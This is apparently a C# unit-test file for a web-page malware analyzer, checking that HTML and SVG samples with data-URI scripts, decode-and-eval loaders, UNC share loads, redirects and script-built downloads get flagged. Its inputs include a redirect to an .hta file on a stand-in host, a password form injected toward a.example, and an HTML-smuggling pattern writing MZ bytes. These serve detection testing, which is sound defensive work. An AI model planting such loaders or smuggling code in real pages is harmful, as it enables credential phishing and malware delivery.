using System.Text;
using Analyzer.Core;
using Analyzer.Engines.Tests.Making;

namespace Analyzer.Engines.Tests.Kinds;

/// <summary>Scripts that a page or a picture carries other than as text between tags, and data that it has the browser save.</summary>
public sealed class CarriedScriptTests
{
    private const string Exports = "<table id=t></table><button onclick=\"save()\">Export</button><script>function save() { var r = [];"
        + "document.querySelectorAll('#t tr').forEach(row => r.push(row.innerText)); var b = new Blob([r.join('\\n')]);"
        + "var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = ";

    private static readonly string Loads = Base64("location.href = 'http://a.example/x.hta'");
    private static readonly string Bytes = string.Concat(Enumerable.Repeat("4d5a9000", 100));

    [Fact]
    public void Complete_AddressOfAScriptCarriesIt_IsReadAsAScript()
    {
        Suspicious($"<html><script src=\"data:text/javascript;base64,{Loads}\"></script></html>", "script.loads-program");
        Suspicious("<html><script src=\"data:,location.href%20%3D%20'http://a.example/x.hta'\"></script></html>", "script.loads-program");
        Judged.Of($"<html><script src=\"data:text/javascript;base64,{Base64("window.a = 1;")}\"></script></html>")
            .Verdict.ShouldBe(Verdict.Clean);
    }

    [Theory]
    [InlineData("<style>body { background: url(\"\\\\\\\\192.0.2.7\\\\share\\\\a.png\") }</style>")]
    [InlineData("<style>@import url(file://192.0.2.7/share/a.css);</style>")]
    [InlineData("<p style=\"background-image: URL( '\\\\192.0.2.7\\share\\a.png' )\">a</p>")]
    public void Complete_StyleFromAShare_IsSuspicious(string body) => Suspicious($"<html>{body}</html>", "html.file-share");

    [Theory]
    [InlineData("var o = ''; for (var i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ 23); eval(o);")]
    [InlineData("let o = ''; for (const c of s) { o = o + String.fromCharCode(parseInt(c, 16) - k); } (new Function(o))();")]
    [InlineData("var e = document.createElement('script'); e.text = atob(s); document.head.appendChild(e);")]
    [InlineData("var e = document.createElement('SCRIPT'); e.appendChild(document.createTextNode(atob(s)));")]
    [InlineData("document.write(unescape('%3Cform action=%22https://a.example/p%22%3E%3Cinput type=password%3E%3C/form%3E'))")]
    public void Complete_ScriptRunsOrShowsWhatItPutsTogether_IsSuspicious(string script) =>
        Suspicious($"<html><script>{script}</script></html>", "script.runs-decoded");

    [Fact]
    public void Complete_CodeWithoutWords_IsSuspicious() =>
        Suspicious(
            $"<html><script>[][{string.Concat(Enumerable.Repeat("(![]+[])[+[]]+", 40))}[]]()</script></html>", "script.runs-decoded");

    [Theory]
    [InlineData("<script>window.location.href = 'https://a.example/p'</script>")]
    [InlineData("<script><![CDATA[ location.replace(a + b) ]]></script>")]
    [InlineData("<script xlink:href=\"data:text/javascript,location.assign('//a.example')\"/>")]
    [InlineData("<script>eval(atob(d))</script>")]
    [InlineData("<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://a.example/login\"/></foreignObject>")]
    public void Complete_PictureThatLeadsElsewhere_IsFound(string inside) => Judged
        .Of($"<svg xmlns=\"http://www.w3.org/2000/svg\">{inside}</svg>")
        .Rules().ShouldContain("xml.picture-leads");

    [Theory]
    [InlineData("<script>document.querySelectorAll('.a').forEach(e => e.addEventListener('mouseover', () => e.classList.add('b')))"
        + "</script>")]
    [InlineData("<g onclick=\"location.href = '/part/7'\"><rect/></g>")]
    public void Complete_PictureThatOnlyMoves_IsClean(string inside) =>
        Judged.Of($"<svg xmlns=\"http://www.w3.org/2000/svg\">{inside}</svg>").Verdict.ShouldBe(Verdict.Clean);

    /// <summary>What the reader sees may be saved; what nobody sees may be a program.</summary>
    [Fact]
    public void Complete_PageSavesData_IsSuspiciousIfTheDataAreItsOwn()
    {
        Judged.Of($"<html>{Exports}'table.csv'; a.click(); }}</script></html>").Verdict.ShouldBe(Verdict.Clean);
        Suspicious($"<html>{Exports}'table.js'; a.click(); }}</script></html>", "script.builds-download");
        Suspicious($"<html><script>var d = '{Bytes}';</script>{Exports}n; a.click(); }}</script></html>", "script.builds-download");
        Suspicious($"<html><script>var d = [{string.Join(',', new int[64])}];</script>{Exports}n; a.click(); }}</script></html>",
            "script.builds-download");
    }

    private static string Base64(string text) => Convert.ToBase64String(Encoding.ASCII.GetBytes(text));

    private static void Suspicious(string page, string rule)
    {
        var report = Judged.Of(page);

        report.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(report));
        report.Rules().ShouldContain(rule, Judged.Text(report));
    }
}
